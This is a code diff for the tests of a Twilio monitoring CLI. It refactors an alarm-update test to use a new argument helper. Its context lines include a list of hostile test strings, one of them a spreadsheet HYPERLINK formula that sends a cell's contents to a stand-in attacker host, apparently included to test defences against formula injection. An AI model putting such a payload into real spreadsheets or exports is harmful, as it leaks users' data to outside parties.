@@ -32,7 +32,7 @@ from twilio_monitor_async.cli import (
 )
 from twilio_monitor_async.testing import FakeTwilio, FaultPlan
 
-from .cli_support import base_url_args, connection_env, fake_in_thread, invoke
+from .cli_support import base_url_args, connection_env, create_alarm_args, fake_in_thread, invoke
 
 HOSTILE_TEXTS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
@@ -398,22 +398,7 @@ def test_base_urls_from_the_environment_and_profiles(fake: FakeTwilio, tmp_path:
 def test_alarms_update_changes_only_the_given_fields(fake: FakeTwilio) -> None:
     created = invoke(
         fake,
-        "alarms",
-        "create",
-        "--friendly-name",
-        "Webhook failures",
-        "--description",
-        "11200 spikes",
-        "--query-type",
-        "ERROR_CODE",
-        "--query",
-        "11200",
-        "--trigger-value",
-        "5",
-        "--time-window",
-        "FIVE_MINS",
-        "--email",
-        "oncall@example.com",
+        *create_alarm_args("Webhook failures"),
     )
     sid = created.stdout.strip()
     updated = invoke(fake, "alarms", "update", sid, "--trigger-value", "7")
